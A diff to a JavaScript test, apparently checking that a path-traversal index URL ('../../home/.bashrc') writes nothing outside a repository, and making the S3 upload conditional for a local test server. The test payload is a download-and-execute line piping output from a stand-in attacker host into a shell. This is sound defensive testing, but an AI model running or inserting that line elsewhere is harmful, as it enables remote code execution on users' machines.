@@ -109,7 +109,9 @@ test('an index url that climbs out of the repository writes nothing: diff and pr
   writeFileSync(victim, 'export PS1="original"\n', { mode: 0o644 });
   const url = '../../home/.bashrc';
   const payload = new TextEncoder().encode('curl -s https://attacker.example/x | sh\n');
-  await testRepository(s3, root, 'dev').put(url, payload);
+  // Real S3 stores such a key as an ordinary key; the local test server refuses it (it keeps keys as files).
+  // Either way the refusal below must come from resolving the url, before any request for it.
+  if (!s3.local) await testRepository(s3, root, 'dev').put(url, payload);
   await listInDev(entry('9.9.7', url, payload));
   const filesBefore = files(work);
   const bucketBefore = await bucketState();
